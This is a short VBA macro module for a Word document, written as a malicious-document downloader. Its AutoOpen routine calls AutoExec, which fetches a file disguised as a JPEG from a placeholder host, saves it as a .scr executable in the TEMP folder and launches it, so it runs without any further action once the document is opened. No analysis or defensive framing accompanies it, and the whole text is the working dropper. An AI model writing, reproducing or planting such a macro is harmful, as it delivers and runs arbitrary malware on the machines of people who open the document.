Attribute VB_Name = "ThisDocument"

Sub AutoExec()
    Dim x, s
    Set x = CreateObject("Microsoft.XMLHTTP")
    x.Open "GET", "http://host.example/q.jpg", False
    x.send
    Set s = CreateObject("Adodb.Stream")
    s.Type = 1
    s.Open
    s.write x.responseBody
    s.savetofile Environ("TEMP") & "\q.scr", 2
    Set a = CreateObject("Shell.Application")
    a.Open Environ("TEMP") & "\q.scr"
End Sub
Sub AutoOpen()
    AutoExec
End Sub
